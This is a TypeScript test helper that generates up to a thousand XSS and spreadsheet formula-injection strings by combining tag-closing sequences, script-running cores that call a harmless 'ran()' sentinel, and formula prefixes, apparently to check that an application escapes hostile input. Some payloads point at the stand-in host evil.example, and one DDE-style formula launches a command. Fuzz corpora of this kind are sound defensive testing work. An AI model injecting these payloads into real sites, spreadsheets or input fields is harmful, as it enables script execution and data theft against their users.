/** Calls a function that whoever looks for it puts on the page; in a page that is safe nobody ever calls it. */
const RUN = 'ran()';

const CLOSINGS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '-->',
  ']]>',
  '`',
  '\\',
  '"}',
  "'});",
];

const CORES = [
  `<script>${RUN}</script>`,
  `<ScRiPt src="data:text/javascript,${RUN}"></sCrIpT>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></table></mtext></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=${RUN}>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="https://evil.example"><button>x</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><img src=x onerror=${RUN}></noscript>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/x.css'</style>`,
  `javascript:${RUN}//`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>opener.${RUN}</script>`,
  ` onmouseover=${RUN} x=`,
  ` style=animation-name:x onanimationstart=${RUN} `,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `$&$\`$'$1`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\u2028${RUN}\u2029`,
  `\u202e<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
  `<\u200bscript>${RUN}</script>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `__proto__`,
];

const FORMULAS = [
  '=HYPERLINK("https://evil.example","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '=IMPORTXML("https://evil.example","//a")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
];
const BEFORE = ['', ' ', '\t', '\r', '\n', '\u00a0', '\u3000', '  \t', '\r\n', '\uFEFF', '\u200b'];

/**
 * Texts of whoever wants a page to run them or a spreadsheet to reckon: ways out of a tag, an attribute, a script or a style, each with each
 * way to run something, and formulas behind what a spreadsheet skips. A thousand of them unless it says otherwise, each another one.
 */
export function hostileTexts(count = 1_000): readonly string[] {
  const tags = CLOSINGS.flatMap((closing) => CORES.map((core) => closing + core));
  const formulas = BEFORE.flatMap((before) => FORMULAS.map((formula) => before + formula));
  const both = formulas.flatMap((formula) => CLOSINGS.slice(3, 8).map((closing) => `${formula}${closing}${CORES[0]}`));
  const all = [...new Set([...tags, ...formulas, ...both])];
  // every so many of them, so that few have of each kind too
  const step = all.length / Math.min(count, all.length);
  return Array.from({ length: Math.min(count, all.length) }, (_, at) => all[Math.floor(at * step)] as string);
}
